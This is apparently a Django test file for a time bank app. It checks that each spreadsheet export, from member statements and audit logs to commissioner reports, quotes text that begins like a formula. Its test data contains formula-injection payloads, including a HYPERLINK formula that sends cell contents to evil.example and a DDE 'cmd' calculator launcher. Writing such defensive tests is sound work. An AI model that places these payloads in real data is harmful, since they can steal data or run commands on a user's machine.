"""Every download a spreadsheet may open writes what members typed as text, never as a formula:
the statement, the broker's monthly report, the audit trail, a member's data export and the
commissioner report (CSV and XLSX)."""

from __future__ import annotations

import csv
import io
import zipfile

import time_machine
from django.core.management import call_command
from django.test import SimpleTestCase, TestCase, override_settings
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from exchanges import services as exchanges
from ledger import services as ledger
from listings.models import Category
from members.models import Person
from tests.base import CastTestCase
from tests.listings.support import make_listing
from tests.reports.commissioning_data import END, START, KnownQuarter, frozen
from tests.reports.support import KnownMonth
from tests.support import at, user_of

QUARTER = {"start": START.isoformat(), "end": END.isoformat()}
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for your statement")'


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode())))


class Cells(SimpleTestCase):
    def test_text_that_starts_a_formula_is_quoted_and_nothing_else_changes(self):
        from timebank.spreadsheets import cell

        for text in ("=1+1", "+1+1", "-1 hour", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK):
            with self.subTest(text=text):
                self.assertEqual(cell(text), "'" + text)
        for value in ("Weeded the garden", "-1.50", "+2", "12", "", -90, 1.5, None, "a=b"):
            with self.subTest(value=value):
                self.assertEqual(cell(value), value)


class TheStatement(CastTestCase):
    def test_another_members_description_is_text_in_the_statement_csv(self):
        alice = ledger.open_account(time_bank=self.riverside, person=self.alice)
        bob = ledger.open_account(time_bank=self.riverside, person=self.bob)
        recorded = exchanges.record_exchange(
            recorded_by=self.bob,
            giver=bob,
            receiver=alice,
            minutes=60,
            details=exchanges.Details(effective_date=timezone.localdate(), description=HYPERLINK),
        )
        exchanges.confirm_exchange(exchange=recorded, person=self.alice)
        self.client.force_login(user_of(self.alice))
        response = self.client.get(reverse("statement", args=["riverside"]), {"format": "csv"})
        line = next(row for row in rows_of(response.content) if "HYPERLINK" in row[2])
        self.assertEqual(line[2], "'" + HYPERLINK)
        # The numbers stay numbers; hours in words that start with "-" are quoted.
        self.assertEqual(line[3:], ["Bob Baker", "-60", "'-1 hour", "-60"])


class TheAuditTrail(CastTestCase):
    def test_a_members_name_is_text_in_the_audit_csv(self):
        Person.objects.filter(pk=self.bob.pk).update(display_name="=cmd|' /C calc'!A0")
        self.bob.refresh_from_db()
        self.riverside.confirmation_required = False
        self.riverside.save()
        exchanges.record_exchange(
            recorded_by=self.bob,
            giver=ledger.open_account(time_bank=self.riverside, person=self.bob),
            receiver=ledger.open_account(time_bank=self.riverside, person=self.alice),
            minutes=60,
            details=exchanges.Details(effective_date=timezone.localdate(), description="Lift"),
        )
        self.client.force_login(user_of(self.brenda))
        response = self.client.get(reverse("audit-log", args=["riverside"]), {"format": "csv"})
        names = [row[3] for row in rows_of(response.content)[1:]]
        self.assertIn("'=cmd|' /C calc'!A0", names)
        self.assertNotIn("=cmd|' /C calc'!A0", names)


class TheDataExport(CastTestCase):
    def test_a_listing_title_is_text_in_the_export_zip(self):
        make_listing(self.riverside, self.alice, "+SUM(1,2)")
        self.client.force_login(user_of(self.alice))
        response = self.client.get(reverse("profile-export"), {"format": "csv"})
        archive = zipfile.ZipFile(io.BytesIO(response.content))
        listings = list(csv.DictReader(io.StringIO(archive.read("listings.csv").decode())))
        self.assertEqual([row["title"] for row in listings], ["'+SUM(1,2)"])


class TheMonthlyReport(KnownMonth, TestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        cls.build_month()
        Person.objects.filter(pk=cls.carl.pk).update(display_name="@SUM(1+1)*cmd")

    def test_a_members_name_is_text_in_the_brokers_report_csv(self):
        month = f"{self.m:%Y-%m}"
        with (
            time_machine.travel(at(self.n, 6), tick=False),
            self.captureOnCommitCallbacks(execute=True),
        ):
            call_command("monthly_reports", month=month, stdout=io.StringIO())
        self.client.force_login(user_of(self.brenda))
        response = self.client.get(reverse("report-csv", args=["riverside", month]))
        givers = [row[4] for row in rows_of(response.content) if row[2] == "givers_only"]
        self.assertEqual(givers, ["'@SUM(1+1)*cmd"])


# A category's name is at most 60 characters.
CATEGORY = '=HYPERLINK("http://evil.example","Gardening")'


@override_settings(REPORT_SUPPRESSION_THRESHOLD=1)
class TheCommissionerReport(KnownQuarter, TestCase):
    """Category names are the admin's, but they reach every commissioner's download."""

    @classmethod
    def setUpTestData(cls) -> None:
        cls.build_quarter()
        Category.objects.filter(slug="gardening").update(name=CATEGORY)

    def setUp(self) -> None:
        traveller = frozen()
        traveller.start()
        self.addCleanup(traveller.stop)
        self.client.force_login(user_of(self.cora))

    def download(self, format: str, **query: str) -> bytes:
        url = reverse(f"commissioner-report-{format}", args=["riverside"])
        response = self.client.get(url, {**QUARTER, **query})
        self.assertEqual(response.status_code, 200)
        return response.content

    def test_a_category_name_is_text_in_the_csv_and_numbers_stay_numbers(self):
        rows = rows_of(self.download("csv", table="categories"))
        names = [row[0] for row in rows[1:]]
        self.assertIn("'" + CATEGORY, names)
        self.assertNotIn(CATEGORY, names)
        # Hours are numbers, written as they are.
        self.assertTrue(all(row[-1].lstrip("-").replace(".", "").isdigit() for row in rows[1:]))

    def test_a_category_name_is_text_in_the_xlsx(self):
        book = load_workbook(io.BytesIO(self.download("xlsx")))
        cells = [cell for row in book["Categories"].iter_rows() for cell in row]
        named = [cell for cell in cells if cell.value == CATEGORY]
        self.assertTrue(named)
        self.assertTrue(all(cell.data_type == "s" for cell in named))
